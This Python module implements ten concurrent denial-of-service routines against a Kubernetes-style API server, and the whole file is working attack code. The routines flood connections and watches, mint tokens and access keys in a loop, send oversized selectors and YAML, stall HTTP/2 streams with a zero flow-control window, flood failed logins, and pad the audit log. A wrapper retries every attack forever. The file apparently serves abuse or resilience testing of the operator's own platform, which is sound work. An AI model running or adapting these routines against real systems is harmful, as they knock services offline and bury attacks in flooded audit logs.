"""Ten ways to be a bad neighbour. Each is what one connection does again and again, as fast as it can."""

import asyncio
import random
import ssl
import struct
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

import orjson

GROUP = "management.service.sh"
APPS = f"/apis/{GROUP}/v1/apps"
KEYS = f"/apis/{GROUP}/v1/ownedaccesskeys"
CONFIGMAPS = "/api/v1/namespaces/default/configmaps"
TOKEN = "/api/v1/namespaces/default/serviceaccounts/mallory/token"
LARGE = f"{CONFIGMAPS}/large"
LOGIN = "/auth/password/login"
LARGEST_HEAD = 1024 * 1024
TRICKLE_BYTES, TRICKLE_SECONDS = 1024, 0.1
STREAMS = 100
TERMS = 400
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS = 4, 1
NO_WINDOW = struct.pack(">HL", 4, 0)
YAML = "\n".join(
    ["apiVersion: v1", "kind: ConfigMap", "metadata: {name: yaml}", "data:"]
    + [f'  key-{number}: "{"value " * 8}"' for number in range(4_000)]
)

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass(frozen=True, slots=True)
class World:
    """The server, the two keys of the attacker (one has rights, one has none), and what came back so far."""

    host: str
    port: int
    root: str
    trust: Mapping[str, ssl.SSLContext]
    key: str
    powerless_key: str
    answers: Counter[str] = field(default_factory=Counter)

    def request(self, method: str, path: str, key: str | None, body: bytes = b"", **headers: str) -> bytes:
        """`path` is below the root, or one of the platform's own. Without a key for None."""
        target = path if path.startswith("/auth/") else f"{self.root}{path}"
        lines = [f"{method} {target} HTTP/1.1", f"host: {self.host}:{self.port}"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        if key is not None:
            lines.append(f"authorization: Bearer {key}")
        if body:
            lines.append(f"content-length: {len(body)}")
        return "\r\n".join([*lines, "", ""]).encode() + body

    @asynccontextmanager
    async def connection(self, protocol: str = "http/1.1") -> AsyncIterator[Streams]:
        streams = await asyncio.open_connection(
            self.host, self.port, ssl=self.trust[protocol], server_hostname=self.host, limit=LARGEST_HEAD
        )
        try:
            yield streams
        finally:
            streams[1].transport.abort()

    async def ask(self, streams: Streams, request: bytes) -> bytes:
        """Sends a request and reads the whole answer; its body. Statuses are counted."""
        reader, writer = streams
        writer.write(request)
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        self.answers[head.split(b" ", 2)[1].decode()] += 1
        for line in head.split(b"\r\n"):
            if line.startswith(b"content-length:"):
                return await reader.readexactly(int(line.partition(b":")[2]))
        while size := int(await reader.readuntil(b"\r\n"), 16):
            await reader.readexactly(size + 2)
        await reader.readuntil(b"\r\n")
        return b""


Attack = Callable[[World, int], Awaitable[None]]
"""What one of many connections does until it is over; with the number of the connection."""


async def connect(world: World, number: int) -> None:
    """Somebody without rights: half of the connections stay, the other half come again for each request."""
    async with world.connection() as streams:
        while True:
            await world.ask(streams, world.request("GET", f"{APPS}/app-000001", world.powerless_key))
            if number % 2:
                return


async def read_large(world: World, number: int) -> None:
    async with world.connection() as streams:
        while True:
            await world.ask(streams, world.request("GET", LARGE, world.key))


async def use_yaml(world: World, number: int) -> None:
    async with world.connection() as streams:
        while True:
            await world.ask(streams, world.request("GET", f"{APPS}?limit=500", world.key, accept="application/yaml"))
            body = YAML.encode()
            request = world.request(
                "POST", f"{CONFIGMAPS}?dryRun=All", world.key, body, content_type="application/yaml"
            )
            await world.ask(streams, request)


async def list_all(world: World, number: int) -> None:
    async with world.connection() as streams:
        while True:
            await world.ask(streams, world.request("GET", APPS, world.key))


async def watch(world: World, number: int) -> None:
    """Half of them begin again as soon as they have heard the first of it; the others stay and listen."""
    async with world.connection() as (reader, writer):
        query = "watch=1&resourceVersion=0" if number % 2 else "watch=1"
        writer.write(world.request("GET", f"{APPS}?{query}", world.key))
        head = await reader.readuntil(b"\r\n\r\n")
        world.answers[head.split(b" ", 2)[1].decode()] += 1
        while await reader.read(65536):
            if number % 2:
                return


async def mint(world: World, number: int) -> None:
    """Keys of one's own, which are deleted again to make room, and tokens of a service account."""
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 600}}
    key = {"apiVersion": f"{GROUP}/v1", "kind": "OwnedAccessKey", "metadata": {"generateName": "more-"}}
    body = orjson.dumps({**key, "spec": {"user": "mallory"}})
    async with world.connection() as streams:
        while True:
            await world.ask(
                streams, world.request("POST", TOKEN, world.key, orjson.dumps(token), content_type="application/json")
            )
            made = orjson.loads(
                await world.ask(streams, world.request("POST", KEYS, world.key, body, content_type="application/json"))
            )
            if made["kind"] == "OwnedAccessKey":
                await world.ask(streams, world.request("DELETE", f"{KEYS}/{made['metadata']['name']}", world.key))


async def select(world: World, number: int) -> None:
    values = ",".join(f"team-x{value}" for value in range(TERMS))
    terms = ",".join(f"label-{term}!=x" for term in range(TERMS))
    queries = (f"team in ({values})", terms, f"team notin ({values})")
    async with world.connection() as streams:
        while True:
            for query in queries:
                escaped = query.replace(" ", "%20")
                await world.ask(streams, world.request("GET", f"{APPS}?labelSelector={escaped}", world.key))


async def read_slowly(world: World, number: int) -> None:
    """Either a hundred answers of HTTP/2 that are given no window, or a long list a few bytes at a time."""
    if number % 2:
        await _open_no_window(world)
        return
    async with world.connection() as (reader, writer):
        writer.write(world.request("GET", APPS, world.key))
        while await reader.read(TRICKLE_BYTES):
            world.answers["piece"] += 1
            await asyncio.sleep(TRICKLE_SECONDS)


async def _open_no_window(world: World) -> None:
    async with world.connection("h2") as (reader, writer):
        writer.write(PREFACE + _frame(SETTINGS, 0, 0, NO_WINDOW))
        for stream in range(1, 2 * STREAMS, 2):
            writer.write(_frame(HEADERS, 5, stream, _hpack(world)))
        world.answers["h2"] += STREAMS
        while await reader.read(65536):
            pass


def _hpack(world: World) -> bytes:
    """A GET in HPACK, with nothing compressed but what is in the static table."""
    path, authority = f"{world.root}{LARGE}".encode(), f"{world.host}:{world.port}".encode()
    key = f"Bearer {world.key}".encode()
    return b"\x82\x87\x04" + _text(path) + b"\x01" + _text(authority) + b"\x0f\x08" + _text(key)


def _text(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes((rest % 128 | 128,))
        rest //= 128
    return length + bytes((rest,)) + value


def _frame(type: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((type, flags)) + stream.to_bytes(4, "big") + payload


async def fail_to_sign_in(world: World, number: int) -> None:
    async with world.connection() as streams:
        while True:
            name = "quiet" if number % 4 == 0 else f"user-{random.randrange(10**6)}"
            body = orjson.dumps({"username": name, "password": f"wrong-{random.random()}"})
            await world.ask(streams, world.request("POST", LOGIN, None, body, content_type="application/json"))


async def fill_audit_log(world: World, number: int) -> None:
    """Refused requests without a key, each of which is worth a long line."""
    path = f"{APPS}?fieldSelector={'x' * 8_000}"
    async with world.connection() as streams:
        while True:
            await world.ask(streams, world.request("GET", path, None, user_agent="y" * 2_000))


ATTACKS: Mapping[str, tuple[int, Attack]] = {
    "connections": (200, connect),
    "large reads": (32, read_large),
    "YAML": (16, use_yaml),
    "lists": (16, list_all),
    "watches": (200, watch),
    "tokens": (32, mint),
    "selectors": (16, select),
    "slow reads": (32, read_slowly),
    "failing logins": (32, fail_to_sign_in),
    "audit floods": (64, fill_audit_log),
}
"""By name: over how many connections, and what is done over each."""


async def attack_for_ever(world: World, attack: Attack, number: int) -> None:
    """Comes again whenever it is thrown out."""
    while True:
        with suppress(OSError, EOFError, ValueError, asyncio.LimitOverrunError):
            await attack(world, number)
        await asyncio.sleep(0)
